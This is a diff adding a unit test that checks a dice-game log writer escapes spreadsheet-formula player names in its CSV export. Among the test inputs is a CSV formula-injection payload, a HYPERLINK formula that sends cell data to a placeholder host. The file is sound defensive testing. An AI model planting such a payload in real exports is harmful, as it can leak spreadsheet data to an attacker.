@@ -238,3 +238,28 @@ describe('mirror --csv throw rows', () => {
     for (const e of errors) expect(e).toMatch(/^cannot write .*: no such file or directory$/);
   });
 });
+
+describe('mirror --csv: names are data, not formulas', () => {
+  // A kiosk board takes `new` from anyone on its USB port, names and all.
+  it('writes a player name a spreadsheet would run as a formula with a leading apostrophe', () => {
+    const dir = scratchDir('dt-csv-');
+    const csv = path.join(dir, 'throws.csv');
+    const names = ['=HYPERLINK("http://x.example/?"&A1,"click")', '@SUM(1+1)', '+1', '-2', 'Ann'];
+    const s = setupPechvogel({ players: names, seed: 11 });
+    if (!s.ok) throw new Error('setup');
+    const f = fakeTable(s.state);
+    new ActionLogWriter({ dir: null, csv }).attach(f.table);
+    f.sync();
+    for (let i = 0; i < names.length; i++) {
+      // Four of a value: the first throw ends the turn with a marker (its row is written at the target).
+      const v = 3 + i, w = v === 3 ? 4 : 3;
+      f.act({ do: 'throw', faces: [v, v, v, v, 'R', w, w] });
+      f.act({ do: 'choose_target', value: v });
+      if ((f.table.model.state as PvState).phase === 'await_marker_choice') f.act({ do: 'take_marker' });
+    }
+    const players = readFileSync(csv, 'utf8').trim().split('\n').slice(1).map((l) => l.split(',')[4]);
+    expect(players.slice(0, 5)).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1', "'@SUM(1+1)", "'+1", "'-2", 'Ann']);
+    // Numbers stay numbers: the step and the counts.
+    expect(readFileSync(csv, 'utf8').split('\n')[1].split(',')[3]).toMatch(/^\d+$/);
+  });
+});
